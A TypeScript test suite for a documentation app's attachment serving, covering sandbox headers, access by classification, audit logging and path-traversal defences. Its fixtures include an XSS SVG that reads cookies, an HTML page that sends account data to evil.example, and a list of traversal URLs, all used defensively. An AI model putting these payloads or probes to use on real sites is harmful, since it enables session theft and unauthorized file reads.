import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { MAX_ATTACHMENT_BYTES } from '../../src/projects/attachments.ts';
import { importFolder } from '../../src/projects/import-folder.ts';
import { findProject } from '../../src/projects/projects.ts';
import { grantKey } from '../../src/access/policy.ts';
import { PUBLISHED_BRANCH } from '../../src/content/published-branch.ts';
import { ReadingPages } from '../../src/web/reading-pages.ts';
import { asDatabaseOwner, databaseTargets } from '../helpers/databases.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc0000003010100c9fe92ef0000000049454e44ae426082', 'hex');
const EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
const EVIL_HTML = '<!doctype html><script>fetch("/-/account").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>';

/** A project whose files exercise every access rule: see the comments beside each file. */
const FILES: Record<string, string | Buffer> = {
  'index.md': '---\nclassification: public\n---\n# Welcome\n\n![Logo](public/logo.png)\n\n![Icon](files/evil.svg) [page](files/page.html) [data](files/data.bin)\n',
  'public/logo.png': PNG,
  'files/evil.svg': EVIL_SVG,
  'files/page.html': EVIL_HTML,
  'files/data.bin': Buffer.from([0, 1, 2, 3]),
  // embedded by an internal document only
  'team.md': '# Team\n\n![Team](team/photo.png)\n',
  'team/photo.png': Buffer.concat([PNG, Buffer.from('team')]),
  // embedded only by a restricted document
  'secret/plan.md': '---\nclassification: restricted\n---\n# Plan\n\n![Diagram](diagram.png) ![Chart](../shared/chart.png)\n',
  'secret/diagram.png': Buffer.concat([PNG, Buffer.from('secret')]),
  // embedded by the restricted plan and by an internal page
  'shared.md': '# Shared\n\n![Chart](shared/chart.png)\n',
  'shared/chart.png': Buffer.concat([PNG, Buffer.from('chart')]),
  // linked by nothing
  'unlinked/notes.txt': 'notes',
};

const normalized404 = (body: string) => body.replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, 'ID');

for (const target of databaseTargets()) {
  describe(`attachments (${target.name})`, () => {
    let t: TestApp;
    let dispose: () => Promise<void>;
    let folder: string;
    const cookies: Record<string, string> = {};

    before(async () => {
      const opened = await target.open();
      dispose = opened.dispose;
      t = await createTestApp(opened.db);
      folder = mkdtempSync(join(tmpdir(), 'docucommit-attachments-'));
      for (const [path, content] of Object.entries(FILES)) {
        mkdirSync(dirname(join(folder, path)), { recursive: true });
        writeFileSync(join(folder, path), content);
      }
      await importFolder(t.context, { folder, orgSlug: 'acme', projectSlug: 'files', author: { name: 'Bot', email: 'bot@acme.test' } });
      for (const role of ['admin', 'member', 'viewer']) cookies[role] = await t.login(`${role}@acme.test`);
      cookies.globex = await t.login('member@globex.test');
    });
    after(async () => {
      await t.close();
      await dispose();
      rmSync(folder, { recursive: true, force: true });
    });

    const get = (url: string, cookie?: string, headers: Record<string, string> = {}) =>
      t.app.inject({ method: 'GET', url, headers: { ...(cookie ? { cookie } : {}), ...headers } });

    test('an image of a public page is served to anyone, with its type, an ETag and the sandbox', async () => {
      const res = await get('/acme/files/public/logo.png', undefined, { 'sec-fetch-dest': 'image' });
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers['content-type'], 'image/png');
      assert.deepEqual(res.rawPayload, PNG);
      assert.match(String(res.headers.etag), /^"[0-9a-f]{40}"$/);
      assert.equal(res.headers['x-content-type-options'], 'nosniff');
      assert.match(String(res.headers['content-security-policy']), /(^|; )sandbox($|;)/);
      assert.match(String(res.headers['content-disposition']), /^inline; filename="logo\.png"/);

      const again = await get('/acme/files/public/logo.png', undefined, { 'if-none-match': String(res.headers.etag) });
      assert.equal(again.statusCode, 304);
      assert.equal(again.body, '');
    });

    test('byte ranges: a slice, the last bytes, and a range past the end', async () => {
      const first = await get('/acme/files/public/logo.png', cookies.viewer, { range: 'bytes=0-3' });
      assert.equal(first.statusCode, 206);
      assert.equal(first.headers['content-range'], `bytes 0-3/${PNG.length}`);
      assert.deepEqual(first.rawPayload, PNG.subarray(0, 4));
      const last = await get('/acme/files/public/logo.png', cookies.viewer, { range: 'bytes=-4' });
      assert.deepEqual(last.rawPayload, PNG.subarray(PNG.length - 4));
      const past = await get('/acme/files/public/logo.png', cookies.viewer, { range: `bytes=${PNG.length}-` });
      assert.equal(past.statusCode, 416);
      assert.equal(past.headers['content-range'], `bytes */${PNG.length}`);
    });

    test('an SVG is an image only where it is loaded as one: opened as a page it downloads', async () => {
      const image = await get('/acme/files/files/evil.svg', undefined, { 'sec-fetch-dest': 'image' });
      assert.equal(image.statusCode, 200);
      assert.equal(image.headers['content-type'], 'image/svg+xml');
      const csp = String(image.headers['content-security-policy']);
      assert.match(csp, /sandbox/);
      assert.match(csp, /default-src 'none'/);
      assert.doesNotMatch(csp, /script-src/);
      for (const dest of ['document', undefined]) {
        const page = await get('/acme/files/files/evil.svg', undefined, dest ? { 'sec-fetch-dest': dest } : {});
        assert.equal(page.statusCode, 200);
        assert.equal(page.headers['content-type'], 'application/octet-stream');
        assert.match(String(page.headers['content-disposition']), /^attachment; filename="evil\.svg"/);
        assert.match(String(page.headers['content-security-policy']), /sandbox/);
      }
    });

    test('an HTML file, and any type not known to be safe, downloads instead of rendering', async () => {
      for (const [path, name] of [['files/page.html', 'page.html'], ['files/data.bin', 'data.bin']]) {
        const res = await get(`/acme/files/${path}`, undefined, { 'sec-fetch-dest': 'document' });
        assert.equal(res.statusCode, 200, path);
        assert.equal(res.headers['content-type'], 'application/octet-stream');
        assert.equal(res.headers['content-disposition'], `attachment; filename="${name}"; filename*=UTF-8''${name}`);
        assert.equal(res.headers['x-content-type-options'], 'nosniff');
        assert.match(String(res.headers['content-security-policy']), /sandbox/);
      }
    });

    test('a file embedded only by a restricted document is missing for a viewer, alike to a file that is not there', async () => {
      const hidden = await get('/acme/files/secret/diagram.png', cookies.viewer);
      const missing = await get('/acme/files/secret/no-such.png', cookies.viewer);
      assert.equal(hidden.statusCode, 404);
      assert.equal(missing.statusCode, 404);
      assert.equal(normalized404(hidden.body), normalized404(missing.body));
      assert.equal(hidden.headers['content-type'], missing.headers['content-type']);
      assert.equal(hidden.headers.etag, undefined);
      // the same for the member's clearance, and for anonymous readers (sent to sign in, like for any missing page)
      assert.equal((await get('/acme/files/secret/diagram.png', cookies.member)).statusCode, 404);
      const anonymous = await get('/acme/files/secret/diagram.png');
      assert.equal(anonymous.statusCode, 303);
      assert.equal((await get('/acme/files/team/photo.png')).headers.location, '/login?next=%2Facme%2Ffiles%2Fteam%2Fphoto.png');
    });

    test('an admin reads it, and the read is audited like the document it belongs to', async () => {
      const res = await get('/acme/files/secret/diagram.png', cookies.admin);
      assert.equal(res.statusCode, 200);
      const events = await asDatabaseOwner(t.context.db, (owner) =>
        owner.selectFrom('audit_events').select(['target_type', 'target_label', 'details']).where('action', '=', 'document.read').where('target_type', '=', 'attachment').execute(),
      );
      assert.equal(events.length, 1);
      assert.equal(events[0]!.target_label, 'secret/diagram.png');
    });

    test('a file a readable document embeds is served even when a restricted one embeds it too, without an audit record', async () => {
      const res = await get('/acme/files/shared/chart.png', cookies.viewer);
      assert.equal(res.statusCode, 200);
      assert.equal((await get('/acme/files/team/photo.png', cookies.viewer)).statusCode, 200);
      const events = await asDatabaseOwner(t.context.db, (owner) =>
        owner.selectFrom('audit_events').select('target_label').where('target_type', '=', 'attachment').where('target_label', '=', 'shared/chart.png').execute(),
      );
      assert.equal(events.length, 0);
    });

    test('a live access grant to the restricted document opens its files too (audited), and only its files', async () => {
      const project = (await findProject(t.context.db, 'acme', 'files'))!;
      const viewer = { kind: 'user' as const, userId: 'u-viewer', email: 'viewer@acme.test', name: 'Viewer', memberships: new Map([[project.orgId, 'viewer' as const]]) };
      const granted = new ReadingPages(t.context.publisher, async () => new Set([grantKey(project.id, 'secret/plan.md', 'restricted')]));
      const none = new ReadingPages(t.context.publisher, async () => new Set());
      const answer = await granted.attachment(project, viewer, 'secret/diagram.png');
      assert.equal(answer?.file.path, 'secret/diagram.png');
      assert.deepEqual(answer?.audit, { orgId: project.orgId, projectId: project.id, path: 'secret/diagram.png', classification: 'restricted' });
      assert.equal(await none.attachment(project, viewer, 'secret/diagram.png'), null);
      // a grant opens what its document embeds, not the unlinked files an editor may see
      assert.equal(await granted.attachment(project, viewer, 'unlinked/notes.txt'), null);
    });

    test('a file nothing links to needs editor rights', async () => {
      assert.equal((await get('/acme/files/unlinked/notes.txt', cookies.viewer)).statusCode, 404);
      const member = await get('/acme/files/unlinked/notes.txt', cookies.member);
      assert.equal(member.statusCode, 200);
      assert.equal(member.headers['content-type'], 'text/plain; charset=utf-8');
    });

    test('another organization sees nothing, not even a public page’s image under a wrong slug', async () => {
      assert.equal((await get('/acme/files/team/photo.png', cookies.globex)).statusCode, 404);
      assert.equal((await get('/globex/files/public/logo.png', cookies.globex)).statusCode, 404);
    });

    test('path traversal, dot-files and document sources never reach a file', async () => {
      const urls = [
        '/acme/files/../handbook/policies/salary-bands.md',
        '/acme/files/%2e%2e/handbook/policies/salary-bands.md',
        '/acme/files/files/..%2f..%2fsecret%2fdiagram.png',
        '/acme/files/files/%2e%2e/secret/diagram.png',
        '/acme/files/./secret/diagram.png',
        '/acme/files/secret//diagram.png',
        '/acme/files/secret/diagram.png%00.txt',
        '/acme/files/.git/config',
        '/acme/files/secret/plan.md',
        '/acme/files/index.md',
      ];
      for (const url of urls) {
        const res = await get(url, cookies.viewer);
        assert.ok([404, 400].includes(res.statusCode), `${url}: ${res.statusCode}`);
        assert.doesNotMatch(res.body, /secret|classification|IHDR/, url);
      }
      // not even for an admin: a document's source is never served as a file
      assert.equal((await get('/acme/files/secret/plan.md', cookies.admin)).statusCode, 404);
    });

    test('a file larger than the limit is refused without being read', async () => {
      const projectRecord = (await findProject(t.context.db, 'acme', 'files'))!;
      const repository = await t.context.repositories.get(projectRecord);
      const head = await repository.resolveCommit(`refs/heads/${PUBLISHED_BRANCH}`);
      const huge = Buffer.alloc(MAX_ATTACHMENT_BYTES + 1, 0x61);
      await repository.commitFiles({
        branch: PUBLISHED_BRANCH,
        expectedOld: head,
        mode: 'patch',
        changes: [{ path: 'files/huge.txt', content: huge }, { path: 'index.md', content: `${String(FILES['index.md'])}\n[huge](files/huge.txt)\n` }],
        author: { name: 'Bot', email: 'bot@acme.test' },
        message: 'A huge file',
      });
      await t.context.publisher.publish(projectRecord);
      const res = await get('/acme/files/files/huge.txt', cookies.viewer);
      assert.equal(res.statusCode, 413);
      assert.match(res.body, /larger than 25 MB/);
    });
  });
}
